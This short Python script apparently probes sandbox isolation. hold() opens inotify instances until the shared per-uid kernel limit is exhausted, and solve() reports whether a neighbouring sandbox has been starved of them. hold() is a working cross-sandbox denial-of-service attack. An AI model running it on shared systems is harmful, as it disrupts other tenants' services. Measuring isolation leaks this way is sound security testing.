# Attacks a neighbouring sandbox through a per-user kernel budget: the kernel counts inotify
# instances per uid of the initial user namespace (fs.inotify.max_user_instances, 128 by default)
# across every namespace, so sandboxes that share an outer uid share the budget. hold(), run as a
# cell of one sandbox (which keeps them open), takes every instance it can; solve(), in another
# sandbox meanwhile, returns 1 if it could not get a single one: starved by its neighbour.
import ctypes
import errno
import os

HELD = []


def _inotify():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    return fd, ctypes.get_errno()


def hold():
    while True:
        fd, _ = _inotify()
        if fd < 0:
            return len(HELD)
        HELD.append(fd)


def solve():
    fd, err = _inotify()
    if fd >= 0:
        os.close(fd)
        return 0
    return 1 if err == errno.EMFILE else 0
